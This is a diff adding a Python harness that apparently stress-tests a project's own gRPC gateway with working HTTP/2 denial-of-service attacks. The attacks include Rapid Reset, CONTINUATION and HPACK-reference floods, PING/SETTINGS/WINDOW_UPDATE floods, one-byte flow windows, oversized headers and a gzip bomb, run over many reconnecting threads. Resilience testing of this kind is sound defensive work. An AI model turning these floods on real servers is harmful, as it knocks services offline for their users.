@@ -1,0 +1,333 @@
+"""Attacks on the gateway, as a program of its own, so that it costs its victim's process nothing.
+
+    attacks.py NAME HOST:PORT CA SECONDS CONNECTIONS FROM
+
+Each connection comes from the address FROM, does NAME as fast as it can, and is made anew when it
+was cut off. Prints what became of it as JSON: connections opened, refused and cut off, the codes of GOAWAY, the bytes sent.
+"""
+
+import gzip
+import json
+import socket
+import ssl
+import struct
+import sys
+import threading
+import time
+
+import http2
+from http2 import (ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PING, RST_STREAM,
+                   SETTINGS, WINDOW_UPDATE, frame, literal)
+from key_updates import KeyUpdates
+
+PRIORITY, PRIORITY_UPDATE, UNKNOWN = 2, 0x10, 0xee
+PADDED = 8
+GET_MEMBER = '/baliprocess.membership.v1.MembershipService/GetMember'
+LIST_MEMBERS = '/baliprocess.membership.v1.MembershipService/ListMembers'
+PORTION = 64 << 10  # what is sent at once
+PAUSE = 0.05  # before another connection
+
+
+def head(path=GET_MEMBER, fields=()):
+    return b''.join(literal(name, value) for name, value in [
+        (':method', 'POST'), (':scheme', 'https'), (':path', path), (':authority', 'suite'),
+        ('te', 'trailers'), ('content-type', 'application/grpc'), *fields])
+
+
+def portion(one):
+    """Many of the same frame."""
+    return one * (PORTION // len(one))
+
+
+def connect(address, source):
+    host, port = address.rsplit(':', 1)
+    return socket.create_connection((host, int(port)), timeout=5, source_address=(source, 0))
+
+
+class Link:
+    """A connection to the gateway that has been greeted."""
+
+    def __init__(self, address, ca, source):
+        context = ssl.create_default_context(cafile=ca)
+        context.set_alpn_protocols(['h2'])
+        plain = connect(address, source)
+        plain.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+        try:
+            self.socket = context.wrap_socket(plain, server_hostname='localhost')
+        except OSError:
+            plain.close()
+            raise
+        self.stream = -1
+        self.goaway = None
+        self._unread = b''
+        self.send(http2.PREFACE + frame(SETTINGS))
+
+    def send(self, data):
+        self.socket.sendall(data)
+
+    def next_stream(self):
+        self.stream += 2
+        return self.stream
+
+    def read(self, wait=0.0):
+        """Takes what has come: (kind, flags, stream, payload) of each frame."""
+        self.socket.settimeout(wait or 0.000001)
+        try:
+            while True:
+                more = self.socket.recv(1 << 16)
+                if not more:
+                    raise ConnectionResetError('closed')
+                self._unread += more
+        except (TimeoutError, ssl.SSLWantReadError):
+            pass
+        finally:
+            self.socket.settimeout(5)
+            yield from self._frames()
+
+    def _frames(self):
+        while len(self._unread) >= 9:
+            end = 9 + int.from_bytes(self._unread[:3], 'big')
+            if len(self._unread) < end:
+                return
+            kind, flags, stream = struct.unpack('>BBI', self._unread[3:9])
+            payload = self._unread[9:end]
+            self._unread = self._unread[end:]
+            if kind == GOAWAY:
+                self.goaway = struct.unpack('>II', payload[:8])[1]
+            yield kind, flags, stream, payload
+
+    def close(self):
+        self.socket.close()
+
+
+def repeat(one, prepare=None):
+    """The attack that sends the same bytes again and again."""
+    def attack(link, over):
+        if prepare:
+            link.send(prepare(link))
+        data = portion(one)
+        while not over():
+            link.send(data)
+            yield len(data)
+    return attack
+
+
+def open_call(link):
+    return frame(HEADERS, END_HEADERS, link.next_stream(), head())
+
+
+def header_references(link, over):
+    """One large entry in HPACK's table, and blocks that refer to it 16,000 times."""
+    large = b'\x40' + http2.literal('x-large', 'v' * 3900)[1:]
+    link.send(frame(HEADERS, END_HEADERS | END_STREAM, link.next_stream(), head() + large))
+    block = (head() + b'\xbe' * (16 << 10))[:16 << 10]
+    while not over():
+        data = frame(HEADERS, END_HEADERS | END_STREAM, link.next_stream(), block)
+        link.send(data)
+        yield len(data)
+
+
+def continued_references(link, over):
+    """The same in CONTINUATION frames."""
+    large = b'\x40' + http2.literal('x-large', 'v' * 3900)[1:]
+    link.send(frame(HEADERS, END_HEADERS | END_STREAM, link.next_stream(), head() + large))
+    more = b'\xbe' * (16 << 10)
+    while not over():
+        stream = link.next_stream()
+        data = (frame(HEADERS, END_STREAM, stream, head()) + frame(CONTINUATION, 0, stream, more) * 6 +
+                frame(CONTINUATION, END_HEADERS, stream, more))
+        link.send(data)
+        yield len(data)
+
+
+def rapid_reset(link, over):
+    while not over():
+        data = b''
+        for _ in range(100):
+            stream = link.next_stream()
+            data += frame(HEADERS, END_HEADERS, stream, head())
+            data += frame(RST_STREAM, 0, stream, struct.pack('>I', 8))
+        link.send(data)
+        yield len(data)
+
+
+def data_after_reset(link, over):
+    link.send(open_call(link) + frame(RST_STREAM, 0, link.stream, struct.pack('>I', 8)))
+    data = portion(frame(DATA, 0, link.stream, b'x'))
+    while not over():
+        link.send(data)
+        yield len(data)
+
+
+def small_data(payload, flags=0):
+    """DATA that moves next to nothing, on a call whose message is announced as 4 MiB."""
+    def attack(link, over):
+        link.send(open_call(link) + frame(DATA, 0, link.stream, b'\0\0\x3f\xff\xff'))
+        data = portion(frame(DATA, flags, link.stream, payload))
+        while not over():
+            link.send(data)
+            yield len(data)
+    return attack
+
+
+def tiny_windows(link, over):
+    """A long reply in windows of a byte each."""
+    stream = link.next_stream()
+    link.send(frame(SETTINGS, payload=struct.pack('>HI', 4, 0)) +
+              frame(HEADERS, END_HEADERS, stream, head(LIST_MEMBERS)) +
+              frame(DATA, END_STREAM, stream, b'\0\0\0\0\0'))
+    data = portion(frame(WINDOW_UPDATE, 0, stream, struct.pack('>I', 1)))
+    while not over():
+        link.send(data)
+        yield len(data)
+
+
+def too_many_streams(link, over):
+    while not over():
+        data = b''.join(frame(HEADERS, END_HEADERS, link.next_stream(), head()) for _ in range(100))
+        link.send(data)
+        yield len(data)
+
+
+def bad_tokens(link, over):
+    token = 'Bearer eyJhbGciOiJFUzI1NiJ9.' + 'e30' * 100 + '.' + 'A' * 86
+    while not over():
+        data = b''.join(
+            frame(HEADERS, END_HEADERS | END_STREAM, link.next_stream(),
+                  head(fields=[('authorization', token)])) for _ in range(50))
+        link.send(data)
+        yield len(data)
+
+
+SETTING = struct.pack('>HI', 1, 0)
+WINDOW_FLIP = struct.pack('>HI', 4, 0) + struct.pack('>HI', 4, 65535)
+FLOODS = {
+    'ping': repeat(frame(PING, payload=b'12345678')),
+    'ping_ack': repeat(frame(PING, ACK, payload=b'12345678')),
+    'settings': repeat(frame(SETTINGS)),
+    'large_settings': repeat(frame(SETTINGS, payload=SETTING * 2000)),
+    'window_flips': repeat(frame(SETTINGS, payload=WINDOW_FLIP),
+                           lambda link: b''.join(open_call(link) for _ in range(90))),
+    'window_update': repeat(frame(WINDOW_UPDATE, payload=struct.pack('>I', 1))),
+    'priority': repeat(frame(PRIORITY, 0, 1, b'\0\0\0\0\x10'), open_call),
+    'priority_update': repeat(frame(PRIORITY_UPDATE, payload=b'\0\0\0\1u=1'), open_call),
+    'unknown': repeat(frame(UNKNOWN)),
+    'empty_data': small_data(b''),
+    'padded_data': small_data(b'\xff' + bytes(255), PADDED),
+    'one_byte_data': small_data(b'x'),
+    'padded_one_byte_data': small_data(b'\x01x\0', PADDED),
+    'data_after_reset': data_after_reset,
+    'rst_of_closed': repeat(frame(RST_STREAM, 0, 1, struct.pack('>I', 8)), open_call),
+    'tiny_windows': tiny_windows,
+    'header_references': header_references,
+    'continued_references': continued_references,
+    'rapid_reset': rapid_reset,
+    'too_many_streams': too_many_streams,
+    'bad_tokens': bad_tokens,
+}
+
+
+def paced(per_second, make):
+    """The attack that needs no flood: a few calls a second."""
+    def attack(link, over):
+        while not over():
+            data = make(link)
+            link.send(data)
+            yield len(data)
+            for _ in link.read(1 / per_second):
+                pass
+    return attack
+
+
+def whole_call(link, fields=(), message=b'\0\0\0\0\0', path=GET_MEMBER):
+    stream = link.next_stream()
+    data = frame(HEADERS, END_HEADERS, stream, head(path, fields))
+    for start in range(0, len(message), 16000):
+        last = start + 16000 >= len(message)
+        data += frame(DATA, END_STREAM if last else 0, stream, message[start:start + 16000])
+    return data
+
+
+BOMB = gzip.compress(bytes(32 << 20))
+PACED = {
+    'bad_binary_field': paced(50, lambda link: whole_call(link, [('x-bin', '***')])),
+    'large_headers': paced(50, lambda link: whole_call(link, [('x-large', 'x' * 9000)])),
+    'gzip_bomb': paced(20, lambda link: whole_call(
+        link, [('grpc-encoding', 'gzip')], struct.pack('>BI', 1, len(BOMB)) + BOMB)),
+}
+
+
+ATTACKS = {**FLOODS, **PACED, 'key_updates': lambda link, over: link.flood(over)}
+
+
+class Attack:
+    def __init__(self, name, address, ca, seconds, source):
+        self._name = name
+        self._address = address
+        self._ca = ca
+        self._source = source
+        self._end = time.monotonic() + seconds
+        self._lock = threading.Lock()
+        self.result = {'opened': 0, 'refused': 0, 'cut': 0, 'goaways': {}, 'bytes': 0,
+                       'first_cut': None}
+
+    def over(self):
+        return time.monotonic() >= self._end
+
+    def count(self, key, number=1):
+        with self._lock:
+            self.result[key] += number
+
+    def run(self):
+        """On one connection after the other."""
+        while not self.over():
+            try:
+                link = self._connect()
+            except OSError:
+                self.count('refused')
+                time.sleep(PAUSE)
+                continue
+            self.count('opened')
+            self._attack(link)
+            link.close()
+            time.sleep(PAUSE)
+
+    def _connect(self):
+        if self._name == 'key_updates':
+            return KeyUpdates(connect(self._address, self._source))
+        return Link(self._address, self._ca, self._source)
+
+    def _attack(self, link):
+        began = time.monotonic()
+        try:
+            for sent in ATTACKS[self._name](link, self.over):
+                self.count('bytes', sent)
+            return
+        except OSError:
+            pass
+        try:
+            for _ in link.read():
+                pass
+        except OSError:
+            pass
+        with self._lock:
+            self.result['cut'] += 1
+            if self.result['first_cut'] is None:
+                self.result['first_cut'] = time.monotonic() - began
+            code = str(link.goaway)
+            self.result['goaways'][code] = self.result['goaways'].get(code, 0) + 1
+
+
+def main():
+    name, address, ca, seconds, connections, source = sys.argv[1:]
+    attack = Attack(name, address, ca, float(seconds), source)
+    threads = [threading.Thread(target=attack.run) for _ in range(int(connections))]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join()
+    print(json.dumps(attack.result))
+
+
+if __name__ == '__main__':
+    main()
